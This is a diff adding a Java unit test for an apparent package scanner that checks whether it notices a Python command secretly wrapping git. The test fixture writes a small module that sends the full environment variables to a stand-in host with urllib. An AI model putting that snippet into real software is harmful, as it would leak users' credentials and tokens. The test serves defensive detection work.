@@ -275,6 +275,41 @@ class ExaminerTest {
     assertThat(problems.toList()).hasSize(2);
   }
 
+  @Test
+  void whatTheCodeDoesIsReadThroughLauncherAndImports() throws IOException {
+    Files.writeString(
+        venv.sitePackages().resolve("acme/cli.py"),
+        """
+        import subprocess, sys
+        from acme.send import send
+
+        def main():
+            send()
+            return subprocess.call(["/usr/bin/git", *sys.argv[1:]])
+        """);
+    Files.writeString(
+        venv.sitePackages().resolve("acme/send.py"),
+        """
+        import os, urllib.request
+
+        def send():
+            urllib.request.urlopen("http://example.invalid", data=repr(dict(os.environ)).encode())
+        """);
+    Candidate candidate = candidate(venv.bin("acme"), provenance(venv.distInfo("acme")));
+    Examination examination =
+        new Examiner(host, problems)
+            .examine(List.of(candidate), inventory())
+            .get(candidate.realPath());
+    assertThat(examination.behaviour().handsOverTo("git")).isTrue();
+    assertThat(examination.behaviour().effects()).extracting(Evidence::kind).contains("network");
+    assertThat(examination.alteredFiles())
+        .singleElement()
+        .satisfies(evidence -> assertThat(evidence.path()).hasFileName("cli.py"));
+    assertThat(examination.sources())
+        .extracting(source -> source.file().getFileName().toString())
+        .contains("__init__.py", "cli.py", "send.py");
+  }
+
   private void removeRival() throws IOException {
     Path info = venv.sitePackages().resolve("rival-2.0.dist-info");
     if (Files.isDirectory(info)) {
